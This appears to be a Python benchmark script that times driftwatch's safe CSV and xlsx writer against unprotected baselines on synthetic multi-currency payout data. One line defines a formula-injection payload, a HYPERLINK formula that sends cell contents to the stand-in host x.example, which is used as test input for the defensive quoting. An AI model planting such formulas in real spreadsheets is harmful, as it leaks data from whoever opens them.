"""What safe spreadsheet cells cost: every CSV and xlsx driftwatch writes goes through `driftwatch.spreadsheet`
(formula-like text quoted, money to each row's currency minor unit, dates as dates). This times it on a
month's payout lines of `--rows`, in three currencies (EUR, JPY, KWD), one reason in a hundred shaped like a
formula, against a baseline measured in the same run: polars writing the same frame as it is (CSV), and
xlsxwriter writing the same values row by row with no typing (xlsx).

    .venv/bin/python bench/spreadsheet.py [--rows 1000000] [--xlsx-rows 100000] [--runs 5]

Prints the median wall time of each, the ratio to its baseline and the machine's load average.
"""

from __future__ import annotations

import argparse
import os
import tempfile
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import polars as pl
import xlsxwriter
from compare import median_seconds  # bench/ is a folder of scripts: its siblings import by name

from driftwatch import spreadsheet

CURRENCIES = ("EUR", "JPY", "KWD")
HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"M")'


def payout_lines(rows: int) -> pl.DataFrame:
    start = datetime(2026, 10, 1, tzinfo=UTC)
    i = pl.int_range(rows, eager=True)
    cycle = rows // 3 + 1
    return pl.DataFrame(
        {
            "line_id": "L" + i.cast(pl.String),
            "payout_id": "P" + (i // 200).cast(pl.String),
            "external_id": "M-" + (i // 3).cast(pl.String),
            "line_type": pl.Series(["order_amount", "commission", "fee"] * cycle)[:rows],
            "amount": pl.Series(
                [Decimal(n % 100_000 - 20_000) / (100, 1, 1000)[n % 3] for n in range(rows)], dtype=pl.Decimal(18, 4)
            ),
            "currency": pl.Series(list(CURRENCIES) * cycle)[:rows],
            "transaction_date": pl.Series([start + timedelta(seconds=37 * n) for n in range(rows)]),
            "document_date": pl.Series([start + timedelta(days=n % 30) for n in range(rows)]),
            "reason": [HOSTILE if n % 100 == 0 else f"ERP order SO-{n}" for n in range(rows)],
        }
    )


def raw_xlsx(frame: pl.DataFrame, path: Path) -> None:
    book = xlsxwriter.Workbook(str(path), spreadsheet.XLSX_OPTIONS)
    sheet = book.add_worksheet("lines")
    sheet.write_row(0, 0, frame.columns)
    for row, values in enumerate(frame.iter_rows(), start=1):
        sheet.write_row(row, 0, [str(v) if isinstance(v, Decimal | datetime) else v for v in values])
    book.close()


def safe_xlsx(frame: pl.DataFrame, path: Path) -> None:
    book = spreadsheet.workbook(path, datetime(2026, 11, 1), "bench")
    spreadsheet.write_sheet(book.add_worksheet("lines"), frame, spreadsheet.Formats(book), dates=("document_date",))
    book.close()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rows", type=int, default=1_000_000)
    parser.add_argument("--xlsx-rows", type=int, default=100_000)
    parser.add_argument("--runs", type=int, default=5)
    args = parser.parse_args()
    frame = payout_lines(args.rows)
    small = frame.head(args.xlsx_rows)
    with tempfile.TemporaryDirectory() as scratch:
        out = Path(scratch)
        cases = (
            (
                "csv",
                frame.height,
                lambda: frame.write_csv(out / "raw.csv"),
                lambda: spreadsheet.write_csv(frame, out / "safe.csv", dates=("document_date",)),
            ),
            (
                "xlsx",
                small.height,
                lambda: raw_xlsx(small, out / "raw.xlsx"),
                lambda: safe_xlsx(small, out / "safe.xlsx"),
            ),
        )
        for what, rows, baseline, safe in cases:
            base, ours = median_seconds(baseline, args.runs), median_seconds(safe, args.runs)
            print(
                f"{what:<4} {rows:>9,} rows: baseline median {base:.3f} s, driftwatch.spreadsheet median {ours:.3f} s "
                f"({ours / base:.2f}x)"
            )
    print(f"load average {os.getloadavg()[0]:.1f}, {args.runs} runs")


if __name__ == "__main__":
    main()
